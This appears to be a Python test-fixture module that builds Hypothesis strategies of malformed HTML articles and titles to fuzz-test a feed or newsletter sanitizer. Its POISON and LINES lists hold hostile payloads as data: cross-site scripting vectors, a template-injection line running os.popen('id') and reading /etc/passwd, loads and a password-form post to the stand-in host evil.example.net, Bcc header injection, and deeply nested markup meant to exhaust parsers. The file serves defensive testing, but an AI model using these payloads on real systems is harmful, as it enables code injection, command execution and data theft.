"""Articles as nobody should write them: for tests that must hold whatever a feed says."""

from hypothesis import strategies as st

_TAGS = (  # noqa: SIM905 -- reads as the list it is
    "p div h1 h2 h3 ul ol li dl dt dd blockquote a b i span font figure figcaption img table tr td th noscript iframe video "
    "section pre br hr form svg math object details mj-raw mj-text style script title textarea"
).split()
_ATTRIBUTES = [
    "",
    ' class="gallery"',
    ' class="wp-block-gallery"',
    ' class="blocks-gallery-grid"',
    ' class="wp-block-embed"',
    ' role="presentation"',
    ' role="button"',
    ' href="#fn1"',
    ' href="x.pdf"',
    ' src="//youtu.be/abcdefgh"',
    ' poster="b.jpg"',
    ' background="b.jpg"',
    ' class="wp-caption"',
    ' class="wp-caption-text"',
    ' class="gallery-icon"',
    ' src="a.jpg"',
    ' src="data:image/png;base64,AA"',
    ' src="javascript:alert(1)"',
    ' href="x"',
    ' href=" java\nscript:alert(1)"',
    ' onerror="alert(1)"',
    ' style="background:url(javascript:alert(1))"',
    " dir=rtl",
    ' srcset="a.jpg 1x, b.jpg 2000w"',
    " width=99999999999",
]
_TAG = st.builds("<{}{}>".format, st.sampled_from(_TAGS), st.sampled_from(_ATTRIBUTES))
_PIECES = st.one_of(
    _TAG,
    st.builds("</{}>".format, st.sampled_from(_TAGS)),
    st.sampled_from(
        [
            "word ",
            "&lt;script&gt;",
            "<",
            "&nbsp;",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "[caption]",
            "[/caption]",
            "[embed]https://x.y/[/embed]",
            "[embed]https://youtu.be/abcdefgh[/embed]",
            '"',
            "{{ 7*7 }}",
            "<!--more-->",
            "שלום",
            "\uf8ff",
            "1",
        ]
    ),
    st.text(max_size=5),
)

# Pieces of markup in any order, most of it wrong.
ARTICLES = st.lists(_PIECES, max_size=40).map("".join)

# Each ended, hung, misled or took over some program once.
POISON = (
    "<div>" * 20_000 + "deep",
    "<table>" + "<tr>" + "<td>x</td>" * 400 + "</tr>" * 40 + "</table>",
    "<p " + " ".join(f"a{number}=1" for number in range(3_000)) + ">attributes</p>",
    "".join(f"<font size={size}><p>x" for size in range(400)),
    "<mj-raw><script>alert(1)</script></mj-raw><mj-include path='/etc/passwd' /><mj-text>x</mj-text></mjml>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> {0.__class__}",
    "<svg onload=alert(1)><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg><math><mtext><img src=x onerror=alert(1)>",
    "<img src='https://pixel.example.net/1.gif'><img src=//evil.example.net/a.jpg><img srcset='//evil.example.net/b.jpg 9w'>",
    "<style>@import 'https://evil.example.net/x.css'; p { background: url(//evil.example.net/c.png) }</style>",
    "<p style='background:url(https://evil.example.net/d.png)'>styled</p><table background='https://evil.example.net/e.png'><td>x",
    "<link rel=stylesheet href='https://evil.example.net/x.css'><base href='//evil.example.net/'><meta http-equiv=refresh>",
    "<a href='jav&#x09;ascript:alert(1)'>tab</a><a href=' &#14; javascript:alert(1)'>control</a><a href='vbscript:x'>old</a>",
    "<video poster='https://evil.example.net/f.png' src='x'></video><audio src='//evil.example.net/g'></audio><bgsound src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><!--><script>alert(1)</script-->",
    "<form action='https://evil.example.net/'><input name=password><button formaction='javascript:x'>Go</button></form>",
    "</td></tr></table></div></body></html><h1>After the end</h1>",
    "Line\u2028one\u2029two\x85three\x0bfour\r\nBcc: everybody@example.org\r\n\r\nbody \u202eesrever \ufeff",
    "slot0123456789abcdef01234567 hole0123456789abcdef01234567",
)

# What may stand where a title or a name is expected.
LINES = st.one_of(
    st.sampled_from(
        (
            "{{ 7*7 }}",
            "</title><script>alert(1)</script>",
            "January\r\nBcc: everybody@example.org",
            "Line\u2028two\u0085three\x0bfour\x00five",
            "\u202eesrever \u2066isolated",
            "👩‍👩‍👧 हिन्दी e\u0301",
            '"><img src=x onerror=alert(1)>',
            "x" * 10_000,
            "=?utf-8?q?encoded?=",
        )
    ),
    st.text(max_size=60),
)
